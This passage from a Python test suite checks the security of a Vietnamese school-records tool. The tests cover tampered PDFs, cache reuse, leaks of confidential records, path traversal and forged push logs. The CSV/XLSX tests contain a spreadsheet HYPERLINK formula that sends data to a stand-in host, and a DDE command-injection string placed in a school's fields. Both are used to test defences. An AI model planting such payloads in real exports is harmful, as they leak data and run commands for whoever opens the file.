    renamed aside and before the new one is renamed into place. The last good site must still
    be there — and an inspector build pointed at that place by mistake must still be refused."""
    from hoso.errors import HosoError
    from hoso.site.build import build as build_site

    root = repo_copy(base, tmp_path / "x")
    folder = public_folder(base, tmp_path)
    real = Path.rename

    def interrupted(self: Path, target: Any) -> Any:
        if self.name.startswith(".cong-khai.tmp-"):
            raise KeyboardInterrupt
        return real(self, target)

    monkeypatch.setattr(Path, "rename", interrupted)
    with pytest.raises(KeyboardInterrupt):
        build_site(root, "public", folder)
    monkeypatch.setattr(Path, "rename", real)
    assert (folder / "index.json").is_file(), sorted(p.name for p in folder.parent.iterdir())
    with pytest.raises(HosoError):
        build_site(root, "inspector", folder)
    assert leaked(folder) == []


def test_a_deeply_nested_index_in_the_site_folder_does_not_crash_the_build(
    base: Base, tmp_path: Path
) -> None:
    """The last site's index.json only names PDFs a warm build may hard-link. Someone who can write
    the served folder replaces it with JSON nested 100,000 deep (build-info.json left as it was):
    the next build must rebuild the site, not stop with an internal error."""
    root = repo_copy(base, tmp_path / "x")
    folder = public_folder(base, tmp_path)
    (folder / "index.json").write_bytes(b"[" * 100_000 + b"]" * 100_000)
    run = S.hoso(root, base.env, "site", "build", "--audience", "public", "--out", str(folder))
    assert run.code == 0, run.text
    assert index_of(folder)["audience"] == "public"


# ---- 4. what the portal's caches keep ---------------------------------------------------------------


def first_pdf(site: Path) -> tuple[str, dict[str, Any]]:
    record = next(r for r in index_of(site)["records"] if r.get("download"))
    return record["download"], record


def edit_in_place(path: Path, *, keep_mtime: bool) -> None:
    """Change a file's bytes without changing its inode or size (and, if asked, its mtime)."""
    info = path.stat()
    with path.open("r+b") as f:
        f.seek(info.st_size // 2)
        f.write(b"SUA-TRONG-CHO")
    if keep_mtime:
        os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def test_the_portals_copy_of_a_school_site_does_not_change_with_the_schools_folder(
    base: Base, tmp_path: Path
) -> None:
    """The portal verified a school's site folder (every PDF hashes to its blob) and published it
    under site/<slug>/ as hard links. The school then writes into its own PDF (same file, same
    size): the portal now serves those bytes as đã xác minh, with no rebuild and nothing noticed.
    Defence: a site folder is not hosted by the portal at all (its row links to the school's own
    `site_url:`), so no file of the portal is a file of the school's folder."""
    site = site_copy(base, tmp_path / "site")
    url = "https://thcs-x.example/ho-so/"
    out, result = portal(tmp_path, f"  - path: {site}\n    id: x\n    site_url: {url}\n")
    assert result.schools[0].state == "declared" and result.schools[0].site_href == url
    assert not (out / "site" / "x").exists()
    download, _ = first_pdf(site)
    edit_in_place(site / download, keep_mtime=False)
    schools = {(p.stat().st_dev, p.stat().st_ino) for p in site.rglob("*") if p.is_file()}
    assert [p for p in out.rglob("*") if p.is_file() and (p.stat().st_dev, p.stat().st_ino) in schools] == []
    assert files_holding(out, b"SUA-TRONG-CHO") == []


def test_a_pdf_changed_in_place_with_its_mtime_restored_is_caught(base: Base, tmp_path: Path) -> None:
    """A rebuild hashes only the files whose (path, size, mtime, inode) changed. mtime is whatever
    the file's owner sets (`touch -d`, os.utime): the school edits a verified PDF in place and
    puts its mtime back; the next build takes the remembered hash and shows đã xác minh."""
    site = site_copy(base, tmp_path / "site")
    _, result = portal(tmp_path, f"  - path: {site}\n    id: x\n")
    assert result.schools[0].state == "declared"
    download, _ = first_pdf(site)
    edit_in_place(site / download, keep_mtime=True)
    _, result = portal(tmp_path, f"  - path: {site}\n    id: x\n")
    assert result.schools[0].state == "unverified", result.schools[0].problems


def test_a_school_that_stops_committing_does_not_keep_an_old_missing_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a school owes is judged as of the day of the build ("today" of index.json). The portal
    reuses the site it built while HEAD has not moved: a school that commits nothing after 1/9
    is shown on 1/11 with the missing list of 1/9 — nothing overdue — however many deadlines
    passed meanwhile (kế hoạch giáo dục, due 5/10)."""
    from test_timeliness import commit, found_school, write

    from hoso import timeliness

    root = tmp_path / "truong"
    found_school(root)
    write(root, f"records/{YEAR}/truong/ke-hoach-giao-duc-nha-truong/ke-hoach.pdf", make_pdf("Kế hoạch"))
    commit(root, "2024-08-25T09:00:00+07:00", "Kế hoạch giáo dục nhà trường")
    monkeypatch.setattr(timeliness, "today_in_vietnam", lambda: date(2024, 9, 1))
    portal(tmp_path, f"  - path: {root}\n    id: x\n")
    monkeypatch.setattr(timeliness, "today_in_vietnam", lambda: date(2024, 11, 1))
    out, _ = portal(tmp_path, f"  - path: {root}\n    id: x\n")
    fresh_out, _ = portal(tmp_path, f"  - path: {root}\n    id: x\n", out="moi")
    missing = index_of(out / "site" / "x").get("missing", [])
    expected = index_of(fresh_out / "site" / "x").get("missing", [])
    assert expected, "the fresh build owes something: the check can see the difference"
    assert len(missing) == len(expected), (len(missing), len(expected))


def test_a_school_removed_from_schools_yml_is_gone_from_the_next_portal(base: Base, tmp_path: Path) -> None:
    """A school taken out of schools.yml leaves no page, no site, no row in the exports, no
    document in the search index and no rows in the store of the next build."""
    a = site_copy(base, tmp_path / "a")
    b = site_copy(base, tmp_path / "b")
    data = index_of(b)
    data["school"]["name"], data["school"]["code"] = "Trường THCS Đã Rút", "79000099"
    write_index(b, data)
    out, result = portal(tmp_path, f"  - path: {a}\n    id: a\n  - path: {b}\n    id: b\n")
    assert {s.slug: s.state for s in result.schools} == {"a": "declared", "b": "declared"}
    assert (out / "truong" / "b.html").is_file()  # (a site folder is never hosted under site/)
    out, result = portal(tmp_path, f"  - path: {a}\n    id: a\n")
    assert [s.slug for s in result.schools] == ["a"]
    assert not (out / "truong" / "b.html").exists() and not (out / "truong" / "b").exists()
    assert not (out / "site" / "b").exists()
    own = {rel: data for rel, data in S.site_files(out).items() if not rel.startswith("site/")}
    assert [rel for rel, data in own.items() if "Đã Rút".encode() in data or b"79000099" in data] == []
    store = sqlite3.connect(tmp_path / ".cong.cache" / "portal.sqlite")
    assert store.execute("SELECT count(*) FROM records WHERE slug='b'").fetchone() == (0,)
    store.close()


def test_a_public_portal_built_over_an_inspector_one_holds_no_confidential_record(
    base: Base, tmp_path: Path
) -> None:
    """The same --out and cache built for inspectors, then for the public (schools.yml's
    `audience:` changed): no page, site, export or search document of the inspector build may be
    reused in the public one."""
    root = repo_copy(base, tmp_path / "x")
    out, result = portal(tmp_path, f"  - path: {root}\n    id: x\n")
    assert result.schools[0].state == "ok" and leaked(out), "the inspectors' portal holds the học bạ"
    out, result = portal(tmp_path, f"  - path: {root}\n    id: x\n", head="audience: public\n")
    assert result.schools[0].state == "ok" and (out / "site" / "x" / "index.json").is_file()
    assert leaked(out) == []


def test_a_changed_template_or_override_rebuilds_the_pages_it_made(base: Base, tmp_path: Path) -> None:
    """The authority changes its school page template and a school's `commune:` override, nothing
    else: the next build must render that school's pages again (a reused page would still show
    the old text). A file in `templates:` that is not a template (something a template could
    include, outside what the page key covers) is refused, and the last portal stays."""
    from hoso.errors import HosoError
    from hoso.portal.pages import builtin_templates

    site = site_copy(base, tmp_path / "site")
    templates = tmp_path / "mau"
    templates.mkdir()
    original = (builtin_templates() / "school.md.j2").read_text(encoding="utf-8")
    page = templates / "school.md.j2"
    page.write_text(original + "\nGHI-CHU-MOT\n", encoding="utf-8")
    head = "templates: mau\n"
    out, _ = portal(tmp_path, f"  - path: {site}\n    id: x\n    commune: Xã Cũ\n", head=head)
    text = (out / "truong" / "x.html").read_text(encoding="utf-8")
    assert "GHI-CHU-MOT" in text and "Xã Cũ" in text
    page.write_text(original + "\nGHI-CHU-HAI\n", encoding="utf-8")  # the template alone
    out, _ = portal(tmp_path, f"  - path: {site}\n    id: x\n    commune: Xã Cũ\n", head=head)
    text = (out / "truong" / "x.html").read_text(encoding="utf-8")
    assert "GHI-CHU-HAI" in text and "GHI-CHU-MOT" not in text
    # the override alone
    out, _ = portal(tmp_path, f"  - path: {site}\n    id: x\n    commune: Xã Mới\n", head=head)
    text = (out / "truong" / "x.html").read_text(encoding="utf-8")
    assert "Xã Mới" in text and "Xã Cũ" not in text
    (templates / "ghi-chu.html").write_text("GHI-CHU-BA", encoding="utf-8")
    with pytest.raises(HosoError) as refused:
        portal(tmp_path, f"  - path: {site}\n    id: x\n    commune: Xã Mới\n", head=head)
    assert "ghi-chu.html" in refused.value.render()
    assert "GHI-CHU-HAI" in (out / "truong" / "x.html").read_text(encoding="utf-8")


def test_a_public_edition_cannot_declare_hoc_ba_not_confidential(base: Base, tmp_path: Path) -> None:
    """A public portal leaves out records "of a confidential type" — as the school's own
    index.json types them. A public edition whose record_types say `hoc-ba` is not confidential,
    listing a học bạ and its PDF, is taken as it is: the authority republishes a student's học bạ
    to everyone."""
    site = site_copy(base, tmp_path / "site", public=True)
    inspector = index_of(base.site)
    hoc_ba = next(r for r in inspector["records"] if r["type"] == "hoc-ba")
    (site / hoc_ba["download"]).parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(base.site / hoc_ba["download"], site / hoc_ba["download"])
    data = index_of(site)
    for rt in data["record_types"]:
        if rt["id"] == "hoc-ba":
            rt["confidential"] = False
    data["records"].append(hoc_ba)
    data["confidential_counts"] = []
    write_index(site, data)
    out, result = portal(tmp_path, f"  - path: {site}\n    id: x\n", head="audience: public\n")
    assert result.schools[0].has_data
    assert leaked(out) == []


# ---- 5. hoso report ------------------------------------------------------------------------------------

REPORT_TODAY = "2024-11-01"


@pytest.fixture
def school(tmp_path: Path) -> Path:
    """test_timeliness's school (the real `hoso init --level thcs`, the test PKI's people)."""
    from test_timeliness import found_school

    root = tmp_path / "truong"
    found_school(root)
    return root


def approved_late(root: Path, path: str, title: str) -> None:
    """A lesson plan signed by its teacher and the tổ trưởng on 03/10, submitted and approved that
    day through a submission branch: week 5 of 2024-2025 was due 29/09."""
    from test_authority_attacks import approve
    from test_timeliness import GV, commit, git, head_signed, teacher_signed, write

    branch = f"nop/{GV}/{path.rsplit('/', 1)[1].removesuffix('.pdf')}"
    git(root, "switch", "-q", "-c", branch)
    write(root, path, head_signed(teacher_signed(title, "2024-10-03"), "2024-10-03"))
    commit(root, "2024-10-03T10:00:00+07:00", title)
    approve(root, branch, "2024-10-03T11:00:00+07:00")


def report_json(capsys: pytest.CaptureFixture[str], root: Path, out: Path) -> dict[str, Any]:
    run = cli(capsys, "-C", str(root), "report", "--year", YEAR, "--today", REPORT_TODAY, "--out", str(out))
    assert run.code == 0, run.text
    data: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    return data


def test_report_out_never_reaches_records_through_links_or_dots(
    school: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """--out through a symlinked folder into records/, through `..` back into records/ (with
    --force), and --force over a file of the current folder hard-linked to a record: refused, or
    written as a new file (rename) so that the record's bytes never change."""
    from test_authority_attacks import LATE
    from test_timeliness import commit, head_signed, teacher_signed, write

    write(school, LATE, head_signed(teacher_signed("Kế hoạch bài dạy Tuần 5", "2024-09-20"), "2024-09-20"))
    commit(school, "2024-09-20T10:00:00+07:00", "Tuần 5")
    work = tmp_path / "bao-cao"
    work.mkdir()
    monkeypatch.chdir(work)
    (work / "lien").symlink_to(school / "records" / YEAR, target_is_directory=True)
    record = school / LATE
    before = record.read_bytes()
    base_args = ("-C", str(school), "report", "--year", YEAR, "--today", REPORT_TODAY)
    for out in ("lien/bao-cao.pdf", f"../truong/records/{YEAR}/../{YEAR}/bao-cao.pdf", "lien"):
        run = cli(capsys, *base_args, "--out", out, "--force")
        assert run.code == 2 and "records/" in run.err and "Traceback" not in run.text, (out, run.text)
    os.link(record, work / "ban-sao.pdf")
    run = cli(capsys, *base_args, "--out", "ban-sao.pdf", "--force")
    assert run.code == 0, run.text
    assert record.read_bytes() == before
    assert sorted(p.name for p in (school / "records" / YEAR).rglob("*") if p.is_file()) == [
        LATE.rsplit("/", 1)[1]
    ]


def test_an_invisible_character_in_the_title_does_not_let_the_slug_pick_the_week(
    school: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The plan's title reads "Kế hoạch bài dạy Tuần 5" on the site and in the report; a zero
    width space inside "Tuần" (invisible) makes the title name no week to hoso, so the file name
    `tuan-35-…` alone sets the deadline (May) and a plan 4 days late is on time."""
    from test_authority_attacks import LATE

    path = LATE.replace("tuan-05-toan-6a", "tuan-35-toan-6a")
    approved_late(school, path, "Kế hoạch bài dạy Tuầ\u200bn 5")
    data = report_json(capsys, school, tmp_path / "bao-cao.json")
    record = next(r for r in data["records"] if r["path"] == path)
    assert record["title"].replace("\u200b", "") == "Kế hoạch bài dạy Tuần 5"  # what a reader sees
    assert record["timeliness"]["state"] not in ("dung-han", "khong-co-han"), record["timeliness"]
    assert path not in data["total"]["paths"]["on_time"]


def test_a_push_log_written_in_the_clone_is_not_evidence(
    school: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The server's push log is evidence because only the server's hook writes it. A clone's
    refs/hoso/push-log is a ref like any other: the school writes its own entry (the function the
    hook calls, any time it likes) saying the late plan was pushed on 20/09. The report, the site
    and the portal's build of that clone then date it by "the server's clock" and count it on
    time, as evidence."""
    from servers import register_server_key, ssh_key
    from test_authority_attacks import LATE
    from test_timeliness import GV, commit, git

    from hoso.server import pushlog

    # the school registered its server's log key: a log that server signed would be evidence
    register_server_key(school, ssh_key(tmp_path / "may-chu", "push-log-key")[1])
    commit(school, "2024-08-21T08:00:00+07:00", "Khóa ký nhật ký push của máy chủ")
    before = git(school, "rev-parse", "HEAD").strip()
    approved_late(school, LATE, "Kế hoạch bài dạy Tuần 5")
    honest = report_json(capsys, school, tmp_path / "truoc.json")
    assert next(r for r in honest["records"] if r["path"] == LATE)["timeliness"]["state"] == "tre-han"
    head = git(school, "rev-parse", "HEAD").strip()
    entry = pushlog.PushEntry("2024-09-20T02:00:00+00:00", GV, GV, "refs/heads/main", before, head)
    pushlog.append(school, [entry])  # on the school's own clone: no server involved
    data = report_json(capsys, school, tmp_path / "sau.json")
    record = next(r for r in data["records"] if r["path"] == LATE)
    assert record["timeliness"]["state"] == "tre-han", (data["times"], record["timeliness"])


def test_a_backdated_commit_is_reported_as_a_claim(
    school: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without a push log, a commit dated before the deadline (by its author: 20/09) makes the plan
    on time — and the report says where that time comes from: the commit (a claim), in the JSON,
    per record, and in the CSV's facts."""
    from test_authority_attacks import LATE
    from test_timeliness import commit, head_signed, teacher_signed, write

    write(school, LATE, head_signed(teacher_signed("Kế hoạch bài dạy Tuần 5", "2024-09-20"), "2024-09-20"))
    commit(school, "2024-09-20T10:00:00+07:00", "Tuần 5 (ngày tự ghi)")
    data = report_json(capsys, school, tmp_path / "bao-cao.json")
    assert data["times"] == "commit"
    record = next(r for r in data["records"] if r["path"] == LATE)
    assert record["timeliness"]["submitted_source"] == "commit"
    out = tmp_path / "bao-cao.csv"
    run = cli(capsys, "-C", str(school), "report", "--year", YEAR, "--today", REPORT_TODAY, "--out", str(out))
    assert run.code == 0, run.text
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert ["thong-tin", "thoi-diem-nop-theo", "commit"] in [row[:3] for row in rows]


FORMULA = '=HYPERLINK("http://lay-du-lieu.example/?d="&A1,"Tổ Toán – Tin")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_school(root: Path) -> None:
    """A tổ whose name (people.yml) is a spreadsheet formula, and one record of it."""
    from test_timeliness import GROUP, commit, write

    people = (root / "people.yml").read_text(encoding="utf-8")
    people = people.replace("name: Tổ Toán – Tin", "name: '" + FORMULA.replace("'", "''") + "'", 1)
    assert FORMULA.split("(")[0] in people
    (root / "people.yml").write_text(people, encoding="utf-8")
    write(root, f"records/{YEAR}/to/{GROUP}/so-sinh-hoat-chuyen-mon/thang-09.pdf", make_pdf("Sổ sinh hoạt"))
    commit(root, "2024-09-30T10:00:00+07:00", "Sổ sinh hoạt tổ")


def test_report_csv_cells_are_never_formulas(
    school: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A tổ (or school, or record type) named `=HYPERLINK(…)`: in the CSV the Phòng opens in Excel
    the cell runs as a formula (a link sending the sheet's data away, or worse with DDE). A cell
    that would start with =, +, -, @ must be written as text (a leading apostrophe)."""
    formula_school(school)
    out = tmp_path / "bao-cao.csv"
    run = cli(capsys, "-C", str(school), "report", "--year", YEAR, "--today", REPORT_TODAY, "--out", str(out))
    assert run.code == 0, run.text
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def test_report_xlsx_holds_names_as_text(
    school: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same tổ name in the XLSX: a string cell, never a formula."""
    import openpyxl

    formula_school(school)
    out = tmp_path / "bao-cao.xlsx"
    run = cli(capsys, "-C", str(school), "report", "--year", YEAR, "--today", REPORT_TODAY, "--out", str(out))
    assert run.code == 0, run.text
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    named = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert named and all(c.data_type == "s" for c in named), [(c.coordinate, c.data_type) for c in named]


def formula_portal(base: Base, tmp_path: Path) -> Path:
    site = site_copy(base, tmp_path / "site")
    data = index_of(site)
    data["school"]["name"], data["school"]["commune"] = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
    write_index(site, data)
    out, result = portal(tmp_path, f"  - path: {site}\n    id: x\n")
    assert result.schools[0].state == "declared"
    return out


def test_portal_csv_cells_are_never_formulas(base: Base, tmp_path: Path) -> None:
    """A school's index.json names it `=HYPERLINK(…)` and its commune `@SUM(…)`: every CSV of the
    portal's exports must hold them as text."""
    out = formula_portal(base, tmp_path)
    cells = [
        c
        for file in sorted((out / "xuat").glob("*.csv"))
        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig")))
        for c in row
    ]
    assert any("HYPERLINK" in c for c in cells)
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def test_portal_xlsx_holds_names_as_text(base: Base, tmp_path: Path) -> None:
    """The same names in the portal's XLSX: string cells, never formulas."""
    import openpyxl

    out = formula_portal(base, tmp_path)
    (book_file,) = (out / "xuat").glob("*.xlsx")
    book = openpyxl.load_workbook(book_file)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    named = [c for c in cells if "HYPERLINK" in str(c.value) or "SUM(" in str(c.value)]
    assert len(named) >= 2, named
    assert all(c.data_type == "s" for c in named), [(c.coordinate, c.data_type) for c in named]
